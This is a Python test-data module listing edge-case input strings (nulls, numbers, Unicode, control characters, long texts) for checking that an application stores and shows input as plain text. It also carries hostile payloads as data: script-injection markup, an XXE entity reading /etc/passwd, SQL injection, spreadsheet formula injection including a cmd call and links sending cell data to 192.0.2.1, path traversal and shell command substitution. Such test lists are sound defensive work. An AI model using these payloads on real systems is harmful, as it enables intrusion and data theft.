"""Texts that have brought programs down, and that somebody will write or paste into a form one day.

A list of our own. Each is a text like any other: stored, searched, shown and exported as it is, and never
markup, a formula, a path or a part of a query.
"""

from __future__ import annotations

_NOTHING = (
    "null", "NULL", "None", "nil", "undefined", "NaN", "nan", "Infinity", "-inf", "true", "False",
    "N/A", "-", "0",
)  # fmt: skip

_NUMBERS = (
    "1", "-1", "-0", "00012", "1e9999", "0x7fffffff", "9223372036854775808", "1.7976931348623157e309",
    "1/0", "1,000.00", "1.000,00", "٣٤٥", "½", "Ⅷ", "1_000", "2026-02-30", "24:61", "13:37:00+25:00",
)  # fmt: skip

_MARKUP = (
    "<script>alert(1)</script>", "<b>bold</b> & <i>italic</i>", "<img src=file:///etc/passwd>",
    "<img src='http://192.0.2.1/x.png' onerror=alert(1)>", "<a href='file:///etc/passwd'>here</a>",
    "<svg onload=alert(1)>", "<style>* { display: none }</style>", "<!-- a comment",
    "<![CDATA[ data ]]>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "</title></head><body>", "&lt;b&gt;&amp;amp;&#60;&#x3c;&nbsp;&unknown;", "<<<>>>", "a < b > c",
    '"><script>', "javascript:alert(1)", "data:text/html,<b>x</b>", "<table><tr><td>1", "<br><br/><hr>",
    "<p style='font-size:900px'>huge</p>", "< b>", "<3", "[a link](file:///etc/passwd)",
    "![a picture](http://192.0.2.1/x.png)", "**bold** _italic_ `code`", "# Heading",
    "\\begin{document}\\input{/etc/passwd}", "{{ 7 * 7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% raw %}", "@{x}",
)  # fmt: skip

_QUERIES = (
    "'; DROP TABLE piece; --", "' OR '1'='1", "Robert'); DELETE FROM text;--", '" OR ""="',
    "1; SELECT 1", "%", "_", "%_%", "\\", "\\'", "''", '"', "`", "O'Brien", "''''", "/* comment */",
    "-- comment", "?", ":name", "@p1", "$1", 'light AND NOT "', "NEAR(a b)", "light*", "^light",
    "title:light", "a OR b", "(", ")", "((((((((((", '"unclosed', "AND", "NOT", "OR", "NEAR",
    "{title body}:x", "+", "a + b", "light -night", "status:accepted", "lacks:alt-text", "form:",
)  # fmt: skip

_FORMULAS = (
    "=1+1", "+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://192.0.2.1?"&A1,"here")',
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "a;=1+1", "a\t=1+1", 'a","=1+1', '=IMPORTXML("http://192.0.2.1","//a")', "|calc",
    "%0a=1", "\u200b=1+1", "\u00a0=1+1", "=",
)  # fmt: skip

_PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\Windows\\win.ini",
    "\\\\host\\share", "file:///x", "CON", "con.txt", "NUL", "LPT1", "AUX.jpg", "a:b", "name.", "name ",
    " name", ".hidden", "~", "~root", "-rf", "--help", ".", "..", "...", "/", "//", "a/b", "a\\b",
    "%2e%2e%2f", "*?<>|", "$HOME", "%PATH%", "`id`", "$(id)", "; ls", "| cat", "&", "http://192.0.2.1/",
    "mailto:a@example.org", "desktop.ini", ".incoming-0123", "catalog.db",
)  # fmt: skip

_FORMATS = (
    "%s%s%s%n", "%d", "%1$s", "%1", "%1 %2 %L1", "%n", "{}", "{0}", "{title}", "{0.__class__}",
    "$title", "%(title)s", "\\n", "\\u0041", "\\x00", "\\0",
)  # fmt: skip

_SCRIPTS = (
    "Été à l'hôpital", "Ünïcödé", "日本語の題", "中文標題", "한국어 제목", "Ελληνικά", "Русский", "हिन्दी",
    "ไทย",
    "አማርኛ", "שלום עולם", "مرحبا بالعالم", "abc שלום 123 مرحبا", "\u202etxet desrever",
    "\u2066isolated\u2069", "\u200fRTL mark", "الكل في المجمو عة (5)", "ﷺ", "İstanbul ıI", "ẞß ŒœÆæ",
    "ﬁ ﬂ ligatures", "Ａｌｌ ｗｉｄｅ", "𝕸𝖆𝖙𝖍", "ⓒⓘⓡⓒⓛⓔ",
    "Z\u0335\u0322a\u0321\u0318\u0353l\u0337\u0344\u034ag\u0338\u034d\u0315o\u0336\u0360\u0361",
    "a" + "\u0301" * 60, "e\u0301 and é", "\u1100\u1161\u11a8", "👩‍⚕️👨🏽‍⚕️", "🏳️‍🌈🇺🇸", "👨‍👩‍👧‍👦" * 20,
    "🫠🩺🧠", "\U0001f3fb", "☃", "℞ ⚕ ⏎", "\u200b", "\u200b\u200c\u200d", "\ufeffmark first", "a\u00adb",
    "\u00a0", "\u3000", "\u2028a line", "\u2029a paragraph", "\ufffd", "\ufffe\uffff", "\U0010ffff",
    "\ue000", "\U000e0041\U000e0042", "\u0378",
)  # fmt: skip

_CONTROLS = (
    "a\0b", "\0", "\x01\x02\x03", "\x07bell", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08back",
    "\x7f", "\x80\x9b31m", "\x85", "a\rb", "a\nb", "a\r\nb", "a\tb", "\v\f", "\n\n\n", "   ", "\t",
    "\ud800", "a\udc80b", "\udfff\ud800",
)  # fmt: skip

_LONG = (
    "W" * 5_000, "long word " * 1_000, "ﷺ" * 200, "\n" * 200 + "end", "(" * 1_000, "'" * 1_000,
    "<b>" * 500, "\u202e" * 200 + "x",
)  # fmt: skip

_ALONE = (
    "", " ", "a", "…", "—", "“”", "‘", ",", ";", ":", "!", "|", "||", " | ", "#", "&&", "©", "1 of 2",
    "Select an option", "Other:",
)  # fmt: skip

_ALL = (
    _NOTHING, _NUMBERS, _MARKUP, _QUERIES, _FORMULAS, _PATHS, _FORMATS, _SCRIPTS, _CONTROLS, _LONG, _ALONE,
)  # fmt: skip

NAUGHTY: tuple[str, ...] = tuple(dict.fromkeys(text for group in _ALL for text in group))
"""Every one of them, each once."""


def is_storable(text: str) -> bool:
    """Tell whether a text is one that any store can hold: no half of a pair of UTF-16, and no NUL."""
    return "\0" not in text and not any(0xD800 <= ord(sign) <= 0xDFFF for sign in text)


def storable(text: str) -> str:
    """Return a text without what no store can hold."""
    return "".join(sign for sign in text if is_storable(sign))


STORABLE = tuple(text for text in NAUGHTY if is_storable(text))
"""Those that are kept as they are."""
